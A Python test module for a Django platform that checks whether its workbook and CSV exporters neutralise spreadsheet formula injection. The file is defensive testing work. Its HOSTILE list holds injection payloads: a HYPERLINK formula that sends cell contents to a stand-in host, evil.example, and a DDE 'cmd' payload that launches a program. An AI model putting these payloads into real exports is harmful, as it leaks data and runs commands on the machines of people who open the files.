"""#11 item 5: no export writes a live formula. Every text column of the data behind every workbook and CSV the
platform writes is filled with hostile values (=HYPERLINK, +, -, @, tab, return), every exporter runs, and
every cell of what it wrote is read back: none is a formula, none begins with a formula character.

The last test keeps it that way: a module that writes a workbook or a CSV must do it through
core.spreadsheets (or core.xlsx_stream, which applies the same rule) and be exercised here."""

import csv
import io
import re
import zipfile
from pathlib import Path

import pytest
from django.db import models
from django.urls import reverse
from openpyxl import load_workbook

from core.spreadsheets import FORMULA_STARTS, inert

ROOT = Path(__file__).resolve().parents[2]
HOSTILE = ['=HYPERLINK("http://evil.example/?q="&A1,"点我")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
           "\t=1+1", "\r=1+1"]


def _hostile(index: int, max_length: int | None) -> str:
    value = HOSTILE[index % len(HOSTILE)]
    if max_length and len(value) > max_length:
        value = "=1+" + "1" * max(0, max_length - 3)
    return value[:max_length] if max_length else value


SKIP = re.compile(r"(_encrypted|_hash|_digest|^slug$|^code$|^token$|^password$|^username$|link$|^url$|receipt)")


def poison(*objects) -> None:
    """Every free-text column of ``objects`` (no choices, not a secret, code or link) set to a hostile value."""
    for obj in objects:
        values = {}
        for i, field in enumerate(obj._meta.concrete_fields):
            if isinstance(field, models.CharField | models.TextField) and not field.choices \
                    and not SKIP.search(field.name):
                value = _hostile(i, field.max_length)
                if field.unique:  # one hostile value per object
                    value = _hostile(i, (field.max_length or 100) - 10) + str(obj.pk)
                values[field.attname] = value
        type(obj).objects.filter(pk=obj.pk).update(**values)
        obj.refresh_from_db()


def _cells_of_xlsx(content: bytes):
    workbook = load_workbook(io.BytesIO(content))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                yield f"{sheet.title}!{cell.coordinate}", cell.data_type, cell.value


def _cells_of_csv(content: bytes):
    for r, row in enumerate(csv.reader(io.StringIO(content.decode("utf-8-sig")))):
        for c, value in enumerate(row):
            yield f"R{r + 1}C{c + 1}", "s", value


def assert_inert(content: bytes, name: str, *, expect_hostile: bool = True) -> None:
    """No cell of the workbook/CSV/zip ``content`` is a formula or a text beginning with a formula character;
    and (``expect_hostile``) the hostile values did reach it, made inert."""
    if name.endswith(".zip"):
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            for member in archive.namelist():
                if member.endswith((".xlsx", ".csv")):
                    assert_inert(archive.read(member), member, expect_hostile=False)
        return
    cells = list(_cells_of_xlsx(content) if name.endswith(".xlsx") else _cells_of_csv(content))
    live = [(where, value) for where, kind, value in cells
            if kind == "f" or (isinstance(value, str) and value.startswith(FORMULA_STARTS))]
    assert not live, f"{name}: live formulas {live[:5]}"
    if expect_hostile:
        assert any(isinstance(v, str) and v[:1] == "'" and v[1:2] in FORMULA_STARTS for _w, _k, v in cells), f"{name}: no hostile text"


def _content(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def test_the_helper():
    assert inert('=HYPERLINK("x")') == "'=HYPERLINK(\"x\")" and inert("-1") == "'-1" and inert("\t=1") == "'\t=1"
    assert inert("希望=减负") == "希望=减负" and inert(-1) == -1 and inert(None) is None and inert("") == ""


def test_openpyxl_writer_turns_nothing_into_a_formula():
    from openpyxl import Workbook

    from core.spreadsheets import sheet_append

    workbook = Workbook()
    sheet_append(workbook.active, HOSTILE + [3, -4.5])
    buffer = io.BytesIO()
    workbook.save(buffer)
    assert_inert(buffer.getvalue(), "x.xlsx")


def test_the_streaming_writer_and_csv_writer_turn_nothing_into_a_formula():
    from core.spreadsheets import csv_writer
    from core.xlsx_stream import XlsxStreamWriter

    buffer = io.BytesIO()
    with XlsxStreamWriter(buffer) as workbook:
        workbook.add_sheet("a", header=HOSTILE).append(HOSTILE)
    assert_inert(buffer.getvalue(), "x.xlsx")
    text = io.StringIO()
    csv_writer(text).writerows([HOSTILE, HOSTILE])
    assert_inert(text.getvalue().encode(), "x.csv")


# --- every exporter, with hostile data -------------------------------------------------------------------------

@pytest.fixture
def hostile_units(unit_a, unit_b):
    poison(unit_a, unit_b)
    return unit_a, unit_b


def test_activities_export(login, organiser, hostile_units):
    from activities.models import State
    from activities.tests.factories import ActivityFactory

    activity = ActivityFactory(unit=hostile_units[0], state=State.HELD, actual_participants=3)
    poison(activity)
    response = login(organiser).get(reverse("activities:export"))
    assert response.status_code == 200
    assert_inert(_content(response), "activities.xlsx")


def test_summaries_registered_exporters(organiser, hostile_units, qingdao):
    from activities.models import MediaCoverage, State
    from activities.tests.factories import ActivityFactory
    from summaries.exports import REGISTRY

    activity = ActivityFactory(unit=hostile_units[0], state=State.HELD, actual_participants=3)
    poison(activity)
    coverage = MediaCoverage.objects.create(activity=activity, outlet="x", title="y", link="https://x.example/",
                                            date=activity.starts_at.date())
    poison(coverage)
    spreadsheets = [cls for cls in REGISTRY.values() if cls.extension in ("xlsx", "csv", "zip")]
    assert spreadsheets
    for cls in spreadsheets:
        office = qingdao.office_for(hostile_units[0].unit_type)  # an office's files hold its routed units
        exporter = cls({"campaign": qingdao.slug, "office": office.code})
        name, content = exporter.write(export=None, progress=lambda percent: None)
        assert_inert(content, name, expect_hostile=cls.extension != "zip")


def test_survey_exporters(survey_with_hostile_answers):
    from surveys import exports
    from surveys.selectors import Filters, questions_of

    survey = survey_with_hostile_answers
    for fmt, export in exports.EXPORTERS.items():
        if fmt.endswith(("xlsx", "csv")):
            content = _content(export(survey=survey, questions=questions_of(survey), filters=Filters()))
            assert_inert(content, f"survey.{fmt}", expect_hostile=fmt != "codebook.csv")


@pytest.fixture
def survey_with_hostile_answers(qingdao):
    import datetime

    from surveys.models import TEXT_KINDS
    from surveys.seeding import survey_load_seed
    from surveys.selectors import questions_of
    from surveys.tests.factories import SHANGHAI, responses_make

    survey = survey_load_seed(slug="qingdao-2022")[0]
    questions = questions_of(survey)
    text_codes = [q.code for q in questions if q.kind in TEXT_KINDS]
    assert text_codes
    answers = [{"q1": 1, **{code: HOSTILE[i % len(HOSTILE)] for code in text_codes}} for i in range(6)]
    responses_make(survey, answers, submitted_at=datetime.datetime(2022, 5, 20, 10, tzinfo=SHANGHAI), start=0,
                   count=False)
    return survey


def test_volunteer_export_and_reports(login, organiser, qingdao):
    import datetime

    from volunteering.services import volunteers_export
    from volunteering.tests.factories import ServiceHoursFactory

    hours = ServiceHoursFactory(record__date=datetime.date(2022, 5, 20))
    poison(hours.volunteer, hours.record.team, hours.record.team.unit, hours.record)
    assert_inert(volunteers_export(actor=organiser), "volunteers.xlsx")
    client = login(organiser)
    response = client.get(reverse("volunteering:report_xlsx", args=["team"]))
    assert response.status_code == 200
    assert_inert(_content(response), "team-report.xlsx")
    response = client.get(reverse("volunteering:report_xlsx", args=["programme"]))
    assert_inert(_content(response), "programme-report.xlsx", expect_hostile=False)


def test_awards_workbooks(login, organiser, qingdao, settings):
    from awards.tests.factories import NominationFactory, SelectionFactory

    settings.SCIDAY_CLOCK = "2022-05-15T10:00+08:00"
    selection = SelectionFactory(campaign=qingdao)
    nomination = NominationFactory(selection=selection)
    poison(nomination, nomination.unit)
    client = login(organiser)
    for url in (reverse("awards:summary_xlsx", args=[selection.pk]),
                reverse("awards:export", args=[selection.pk, "ranking.xlsx"])):
        response = client.get(url)
        assert response.status_code == 200, url
        assert_inert(_content(response), url.rstrip("/") + ".xlsx", expect_hostile="summary" in url)


def test_templates_are_inert(login, organiser, qingdao):
    """The import templates hold only our own text, but go through the same writer."""
    from activities.excel import template_file
    from volunteering.importing import build_workbook

    assert_inert(template_file(qingdao).read(), "activities-template.xlsx", expect_hostile=False)
    assert_inert(build_workbook([HOSTILE]), "volunteers-template.xlsx")


WRITERS = re.compile(r"\bWorkbook\(|\bcsv\.(writer|DictWriter)\(|XlsxStreamWriter\(")
COVERED = {"activities/excel.py", "summaries/reports.py", "surveys/exports.py", "volunteering/importing.py",
           "volunteering/views.py", "awards/exports.py", "organisations/importing.py",
           "summaries/cityreport.py"}  # the report workbook: written through XlsxStreamWriter, tested above


def test_every_writer_of_a_workbook_or_csv_is_covered_and_uses_the_one_helper():
    found = set()
    for path in ROOT.rglob("*.py"):
        relative = path.relative_to(ROOT).as_posix()
        if relative.startswith((".venv/", "node_modules/", "bench/")) or "/tests/" in relative \
                or relative in ("core/xlsx_stream.py", "core/spreadsheets.py"):
            continue
        text = path.read_text(encoding="utf-8")
        if WRITERS.search(text):
            found.add(relative)
            if re.search(r"\bWorkbook\(", text):
                assert "sheet_append" in text and not re.search(r"\b(sheet|options)\.append\(", text), relative
            assert not re.search(r"\bcsv\.(writer|DictWriter)\(", text), f"{relative}: use core.spreadsheets.csv_writer"
    assert found <= COVERED, f"new spreadsheet writers to test here: {found - COVERED}"
